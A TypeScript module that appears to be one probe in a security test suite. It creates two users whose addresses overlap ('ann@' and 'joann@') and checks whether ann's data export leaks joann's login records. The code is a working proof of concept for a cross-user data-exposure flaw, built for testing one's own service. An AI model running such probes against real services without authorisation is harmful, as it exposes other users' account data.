import type { Attack } from './attack.ts'
import { createUser, useKey } from './person.ts'

/** The export of a person lists, and their removal ends, logins of people with a longer address. */
export const attack: Attack = {
  name: 'read the login of joann@… in the export of ann@…',
  item: 11,
  run: async (target) => {
    const host = `${Date.now()}.example.com`
    const headers = useKey(target)
    const ann = await createUser(target, `ann@${host}`)
    await createUser(target, `joann@${host}`)
    await fetch(`${target.baseUrl}/auth/jira/login?state=email=joann@${host}`, { headers })
    const answer = await fetch(`${target.baseUrl}/users/${ann}/export`, { headers })
    const { logins = [] } = (await answer.json()) as { logins?: Array<{ state: string }> }
    return {
      reached: logins.length > 0,
      evidence: `the export lists ${logins.length} logins ${logins.map(({ state }) => state).join()}`
    }
  }
}
